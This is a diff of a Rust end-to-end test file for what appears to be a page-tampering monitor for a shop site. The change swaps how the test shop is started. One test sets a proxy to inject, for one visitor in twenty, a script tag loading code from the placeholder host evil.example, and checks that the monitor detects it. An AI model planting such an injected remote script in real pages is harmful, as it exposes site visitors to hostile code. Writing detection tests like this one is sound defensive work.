@@ -30,7 +30,7 @@ fn look(shop: &Dozo, through: &Proxy, rounds: u32) -> Vec<Value> {
 
 #[test]
 fn what_is_changed_in_front_of_the_gate_is_found_in_two_rounds() {
-    let shop = Dozo::start();
+    let shop = e2e::shop();
     let proxy = proxy::in_front_of(&shop).unwrap();
     let found = look(&shop, &proxy, 12);
     assert!(found.is_empty(), "an ordinary shop is quiet: {found:#?}");
@@ -73,7 +73,7 @@ fn what_is_changed_in_front_of_the_gate_is_found_in_two_rounds() {
 
 #[test]
 fn one_visitor_in_twenty_is_found_within_sixty_looks_at_a_page() {
-    let shop = Dozo::start();
+    let shop = e2e::shop();
     let proxy = proxy::in_front_of(&shop).unwrap();
     proxy
         .set(&[Change::OneInTwenty("</body>", "<script src=\"https://evil.example/a.js\"></script></body>")]);
@@ -84,7 +84,7 @@ fn one_visitor_in_twenty_is_found_within_sixty_looks_at_a_page() {
 
 #[test]
 fn the_watchs_own_visits_are_noted_and_are_those_of_the_records() {
-    let shop = Dozo::start();
+    let shop = e2e::shop();
     std::thread::sleep(std::time::Duration::from_secs(5));
     let out = Command::new(testkit::binary().unwrap())
         .args(["watch", "visits", "--json", "--data"])
